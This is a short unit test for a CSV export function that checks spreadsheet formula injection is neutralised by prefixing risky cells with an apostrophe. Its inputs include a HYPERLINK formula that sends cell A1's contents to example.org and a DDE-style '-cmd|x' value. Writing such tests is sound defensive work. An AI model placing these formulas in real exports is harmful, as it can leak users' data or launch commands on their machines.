import { expect, test } from 'vitest'
import { csvOf } from './report-content.ts'

test('what persons have entered is text in a spreadsheet program too, and numbers stay numbers', () => {
  const number = { number: '-1.500', decimals: 3, marked: false }
  const csv = csvOf([
    {
      name: 'sheet',
      title: '=HYPERLINK("http://example.org/?"&A1)',
      about: ['@SUM(A1)', '\tx'],
      head: ['+1-2', '-'],
      rows: [
        ['-cmd|x', number],
        ['+5 %', '-12.3*'],
      ],
      notes: ['a = b', '＝1'],
    },
  ])
  expect(csv.split('\r\n')).toEqual([
    `"'=HYPERLINK(""http://example.org/?""&A1)"`,
    "'@SUM(A1)",
    "'\tx",
    "'+1-2,-",
    "'-cmd|x,-1.500",
    '+5 %,-12.3*',
    'a = b',
    "'＝1",
    '',
  ])
})
